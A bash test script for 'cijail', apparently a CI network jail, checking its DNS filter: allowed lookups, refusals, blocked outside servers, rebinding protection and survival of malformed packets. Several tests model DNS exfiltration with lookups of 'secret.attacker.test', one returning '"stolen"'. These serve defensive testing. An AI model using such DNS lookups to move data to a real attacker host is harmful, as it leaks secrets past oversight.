#!/usr/bin/env bash
# Names: what is allowed is answered, rebuilt; what is not is REFUSED and the authoritative server sees no packet.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"
dig_status() { sed -n 's/.*status: \([A-Z]*\),.*/\1/p' <<<"$1"; }

t_case 'an allowed name: A, AAAA, TXT, MX over UDP'
run cijail -e registry.example -- dig +short registry.example A
t_status 0
t_eq "$out" 198.51.100.10
run cijail -e registry.example -- dig +short registry.example AAAA
t_eq "$out" 2001:db8:10::10
run cijail -e text.example -- dig +short text.example TXT
t_eq "$out" '"a text" "in two strings"'
run cijail -e text.example -- dig +short text.example MX
t_eq "$out" '10 registry.example.'

t_case 'the same over TCP, and at the IPv6 address of the gateway'
run cijail -e registry.example -- dig +tcp +short registry.example A
t_eq "$out" 198.51.100.10
run cijail -e registry.example -- sh -c 'dig +short registry.example @$(sed -n "s/^nameserver \(.*:.*\)/\1/p" /etc/resolv.conf)'
t_eq "$out" 198.51.100.10
run cijail -e registry.example -- sh -c 'dig +tcp +short registry.example AAAA @$(sed -n "s/^nameserver \(.*:.*\)/\1/p" /etc/resolv.conf)'
t_eq "$out" 2001:db8:10::10

t_case 'getaddrinfo: Python, getent'
run cijail -e registry.example -- python3 -c 'import socket; print(sorted({x[4][0] for x in socket.getaddrinfo("registry.example", 443)}))'
t_eq "$out" "['198.51.100.10', '2001:db8:10::10']"
run cijail -e registry.example -- getent ahosts registry.example
t_match "$out" '^198\.51\.100\.10 '

t_case 'hosts of URL endpoints resolve'
run cijail -e https://registry.example/pkg/ -- dig +short registry.example
t_eq "$out" 198.51.100.10

t_case 'case and a trailing dot do not matter, in the policy and in the question'
run cijail -e ReGistry.EXAMPLE. -- dig rEGISTRY.exAMPLE.
t_eq "$(dig_status "$out")" NOERROR
t_match "$out" $'^rEGISTRY\\.exAMPLE\\..*198\\.51\\.100\\.10'

t_case 'wildcards match any depth, and not the name itself'
run cijail -e '*.wild.example' -- dig +short a.b.wild.example A
t_eq "$out" 198.51.100.10
run cijail -e '*.wild.example' -- dig wild.example A
t_eq "$(dig_status "$out")" REFUSED
run cijail -e '*.wild.example' -- dig notwild.example A
t_eq "$(dig_status "$out")" REFUSED

t_case 'internationalised names in the policy'
run cijail -e bücher.example -- dig +short xn--bcher-kva.example
t_eq "$out" 198.51.100.10

t_case 'NXDOMAIN and NODATA are passed on as such'
run cijail -e missing.example -- dig missing.example
t_eq "$(dig_status "$out")" NXDOMAIN
run cijail -e notadress.example -- dig notadress.example A
t_eq "$(dig_status "$out")" NOERROR
t_match "$out" 'ANSWER: 0,'

t_case 'a name not allowed is REFUSED for any type, and no packet leaves'
for type in A AAAA TXT ANY MX NS SRV HTTPS TYPE65280 NULL CNAME; do
    wire_start
    run cijail -e registry.example -- dig +tries=1 secret.attacker.test $type
    wire_stop
    t_eq "$(dig_status "$out")" REFUSED
    t_no_match "$WIRE" 'attacker'
    t_under 3000
done

t_case 'the twin: allowed, the same question does leave'
wire_start
run cijail -e '*.attacker.test' -- dig +short +tries=1 secret.attacker.test TXT
wire_stop
t_eq "$out" '"stolen"'
t_match "$WIRE" 'TXT\? secret\.attacker\.test'

t_case 'nor for its prefixes: no lookup of parents, of search domains or of the root'
wire_start
run cijail -- dig +tries=1 a.b.c.attacker.test
wire_stop
t_eq "$(dig_status "$out")" REFUSED
t_eq "$WIRE" ''

t_case 'REFUSED over TCP too'
wire_start
run cijail -e registry.example -- dig +tcp +tries=1 secret.attacker.test
wire_stop
t_eq "$(dig_status "$out")" REFUSED
t_eq "$WIRE" ''

t_case 'a denied lookup is one line of the log'
run cijail -- dig +tries=1 secret.attacker.test TXT
t_count 1 "$err" ' cijail: deny resolve secret\.attacker\.test TXT$'
t_denials 1
run cijail -v -e registry.example -- dig registry.example
t_count 1 "$err" ' cijail: allow resolve registry\.example A$'

t_case 'getaddrinfo of a name not allowed fails at once'
run cijail -- python3 -c 'import socket
try: socket.getaddrinfo("secret.attacker.test", 80)
except socket.gaierror as e: print("failed", e.errno in (-2, -3, -4, -5))'
t_match "$out" '^failed'
t_under 4000

t_case 'another server is rejected at once, and hears nothing'
for server in 203.0.113.5 192.0.2.53 8.8.8.8 2001:db8:53::53; do
    for how in +notcp +tcp; do
        wire_start
        run cijail -e registry.example -- dig $how +tries=1 +time=5 registry.example @$server
        wire_stop
        t_match "$out$err" '(network unreachable|no servers could be reached|communications error|connection refused|failed)'
        t_no_match "$out" '^registry\.example\..*IN.A'
        t_match "$err" "deny connect \\[?$server\\]?:53"
        t_under 4000
        t_eq "$WIRE" ''
    done
done
run dig +short registry.example @203.0.113.5
t_eq "$out" 198.51.100.10

t_case 'big answers: many addresses, 8 KiB and 60 KiB of TXT'
run cijail -e many.example -- dig +short many.example A
t_count 100 "$out" '^198\.51\.100\.'
run cijail -e many.example -- dig +short many.example AAAA
t_count 100 "$out" '^2001:db8:aaaa::'
run cijail -e big.example -- dig +short big.example TXT
t_count 40 "$out" xxxx
run cijail -e huge.example -- dig +short huge.example TXT
t_count 280 "$out" xxxx

t_case 'what does not fit into a datagram is truncated'
run cijail -e many.example -- dig +ignore +noedns many.example A
t_match "$out" 'flags: [a-z ]*\btc\b'
run cijail -e many.example -- dig +ignore +bufsize=1232 many.example A
t_match "$out" 'flags: [a-z ]*\btc\b'

t_case 'a question without EDNS gets an answer without; with it, with'
run cijail -e registry.example -- dig +noedns registry.example
t_no_match "$out" 'EDNS'
run cijail -e registry.example -- dig +edns=0 registry.example
t_match "$out" 'EDNS: version: 0'

t_case 'client options do not go up: the query is a fresh one'
wire_start
run cijail -e registry.example -- dig +subnet=198.51.100.0/24 +cookie=0123456789abcdef +nsid registry.example
wire_stop
t_eq "$(dig_status "$out")" NOERROR
t_count 1 "$WIRE" ' A\? registry\.example\. \((34|45)\)$' # the question, or with an empty OPT record
t_count 0 "$WIRE" ' A\? registry\.example\. \((4[6-9]|[5-9][0-9]|[0-9]{3,})\)$'

t_case 'CNAME chains'
run cijail -e alias.example -- dig +short alias.example A
t_match "$out" '^198\.51\.100\.10$'
run cijail -e chain1.example -- dig chain1.example A
t_match "$out" $'^chain3\\.example\\..*CNAME.registry\\.example\\.'
t_match "$out" '198\.51\.100\.10$'
run cijail -e chain1.example -- getent ahostsv4 chain1.example
t_match "$out" '^198\.51\.100\.10 '
run cijail -e loop1.example -- dig +tries=1 loop1.example A
t_match "$(dig_status "$out")" '^(NOERROR|SERVFAIL)$'
t_no_match "$out" '198\.51'

t_case 'addresses of no public host are withheld from a public name'
for name in loopback metadata private shared zero jail six mapped; do
    run cijail -e rebind-$name.example -- sh -c "dig +short rebind-$name.example A; dig +short rebind-$name.example AAAA"
    t_eq "$out" ''
    run dig +short rebind-$name.example A
    twin=$out
    run dig +short rebind-$name.example AAAA
    t_match "$twin$out" '[0-9]'
done
run cijail -e rebind-mixed.example -- dig +short rebind-mixed.example A
t_eq "$out" 198.51.100.10
run cijail -e alias-loopback.example -- dig alias-loopback.example A
t_no_match "$out" '127\.0\.0\.1$'

t_case 'localhost is the jail'\''s own, without a packet'
wire_start
run cijail -- getent ahostsv4 localhost
wire_stop
t_match "$out" '^127\.0\.0\.1 '
t_eq "$WIRE" ''
wire_start
run cijail -- dig +tries=1 localhost
wire_stop
t_match "$(dig_status "$out")" '^(NOERROR|REFUSED|NXDOMAIN)$'
t_eq "$WIRE" ''

t_case 'reverse lookups: not allowed unless named'
wire_start
run cijail -e registry.example -- dig +tries=1 -x 198.51.100.10
wire_stop
t_eq "$(dig_status "$out")" REFUSED
t_eq "$WIRE" ''
run cijail -e '*.in-addr.arpa' -- dig +short -x 198.51.100.10
t_eq "$out" registry.example.

t_case 'odd packets are answered or dropped, and the server goes on'
cat >odd.py <<'END'
import os, socket, struct, subprocess
server = ("192.0.0.1", 53)
question = b"\x08registry\x07example\x00\x00\x01\x00\x01"
def head(ident=7, flags=0x0100, qd=1, an=0, ns=0, ar=0):
    return struct.pack(">6H", ident, flags, qd, an, ns, ar)
packets = {
    "empty": b"", "short": b"\0\1", "head alone": head(), "response": head(flags=0x8100) + question,
    "two questions": head(qd=2) + question * 2, "no question": head(qd=0), "status opcode": head(flags=0x1000) + question,
    "update": head(flags=0x2800) + question, "chaos": head() + question[:-2] + b"\0\3", "pointer loop": head() + b"\xc0\x0c\0\1\0\1",
    "forward pointer": head() + b"\xc0\xff\0\1\0\1", "long label": head() + b"\x7f" + b"a" * 127 + b"\0\0\1\0\1",
    "trailing": head() + question + b"trailing", "zeros": bytes(512), "random": os.urandom(512), "big": head() + question + bytes(8000),
    "dot in label": head() + b"\x10registry.example\0\0\1\0\1", "nul in label": head() + b"\x08regis\0ry\x07example\0\0\1\0\1",
    "edns twice": head(ar=2) + question + b"\0\0\x29\x10\0\0\0\0\0\0\0" * 2, "edns version": head(ar=1) + question + b"\0\0\x29\x10\0\0\1\0\0\0\0",
}
for name, packet in packets.items():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.sendto(packet, server)
    try:
        answer = s.recv(65535)
        code = answer[3] & 15
        count = struct.unpack(">H", answer[6:8])[0]
        print(f"{name}: rcode {code}, {count} answers")
    except socket.timeout:
        print(f"{name}: silence")
s = socket.create_connection(server, 5)
for piece in (b"\0", b"\x22" + head() + question[:5], question[5:]):
    s.sendall(piece)
s.settimeout(3)
answer = b""
while len(answer) < 2 or len(answer) < 2 + struct.unpack(">H", answer[:2])[0]:
    answer += s.recv(65535)
print("tcp in pieces:", answer[2:4] == b"\0\7" and answer[9] > 0)
print(subprocess.run(["dig", "+short", "registry.example"], stdout=subprocess.PIPE, text=True, check=False).stdout.strip())
END
wire_start
run cijail -e registry.example -- python3 odd.py
wire_stop
t_status 0
t_match "$out" '^198\.51\.100\.10$'
t_match "$out" '^tcp in pieces: True$'
for name in 'two questions' chaos 'dot in label' 'nul in label' 'pointer loop' update response 'edns version'; do
    t_match "$out" "^$name: (silence|rcode [0-9]+, 0 answers)"
done
t_no_match "$WIRE" 'regis[^t]'

t_case 'a hundred lookups side by side'
run cijail -e '*.wild.example' -- sh -c 'seq 100 | xargs -P 20 -I {} dig +short {}.wild.example | sort | uniq -c'
t_match "$out" '^ *100 198\.51\.100\.10$'

t_done
